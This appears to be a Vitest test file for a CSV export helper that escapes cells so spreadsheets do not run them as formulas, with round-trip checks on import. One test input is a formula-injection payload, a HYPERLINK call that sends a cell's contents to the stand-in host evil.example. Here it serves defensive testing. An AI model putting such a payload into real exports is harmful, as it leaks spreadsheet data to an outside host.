import { describe, expect, it } from 'vitest';
import { fromSpreadsheetCell, toSpreadsheetCell } from '../../src/imports/spreadsheet-cells.js';

describe('cells of an exported CSV', () => {
  const cases: [given: string, written: string][] = [
    ['=HYPERLINK("https://evil.example/?"&A1,"x")', `'=HYPERLINK("https://evil.example/?"&A1,"x")`],
    ['+44 20 7946 0958', "'+44 20 7946 0958"],
    ['-5% today', "'-5% today"],
    ['@handle', "'@handle"],
    ['\tindented', "'\tindented"],
    ["'=already quoted", "''=already quoted"],
    ["it's fine", "it's fine"],
    ["'plain", "'plain"],
    ['Spring poster', 'Spring poster'],
    ['', ''],
  ];

  it.each(cases)('%j is written as %j, which no spreadsheet runs as a formula', (given, written) => {
    expect(toSpreadsheetCell(given)).toBe(written);
  });

  it.each(cases)('%j comes back unchanged from an import of its export', (given) => {
    expect(fromSpreadsheetCell(toSpreadsheetCell(given))).toBe(given);
  });
});
